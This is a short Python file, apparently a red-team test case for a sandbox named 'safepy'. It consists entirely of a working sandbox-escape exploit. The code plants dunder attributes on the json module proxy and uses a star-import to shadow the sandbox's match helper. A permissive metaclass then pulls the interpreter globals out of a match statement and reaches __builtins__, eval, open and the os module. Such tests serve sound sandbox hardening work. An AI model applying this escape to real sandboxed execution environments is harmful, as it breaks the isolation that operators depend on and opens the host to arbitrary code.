# technique: object.__setattr__ still writes arbitrary dunder keys into a proxy module's dict (only __name__ is a property now): plant __all__ = ['__safepy_match_ref__'] and a __safepy_match_ref__ class on the json proxy, then `from json import *` binds it in the user's globals (star-imports are never checked), shadowing the rewriter's builtin so `case Peek(g)` runs the raw MATCH_CLASS with an unchecked __match_args__ ('__globals__')
# expect: any
import json
class AnyInstance(type):
    def __instancecheck__(cls, obj):
        return True
Peek = AnyInstance("Peek", (), {"__match_args__": ("__globals__",)})
class Ref:
    def __init__(self, thunk):
        self.cls = thunk()           # hand the interpreter the real, unchecked class
object.__setattr__(json, "__safepy_match_ref__", Ref)
object.__setattr__(json, "__all__", ["__safepy_match_ref__"])
from json import *
match json.dumps:
    case Peek(g):
        pass
bi = g["__builtins__"]
os_mod = bi["__import__"]("os")
print(type(g), sorted(g)[:4])
print(bi["open"], bi["eval"])
print(os_mod, os_mod.getpid())
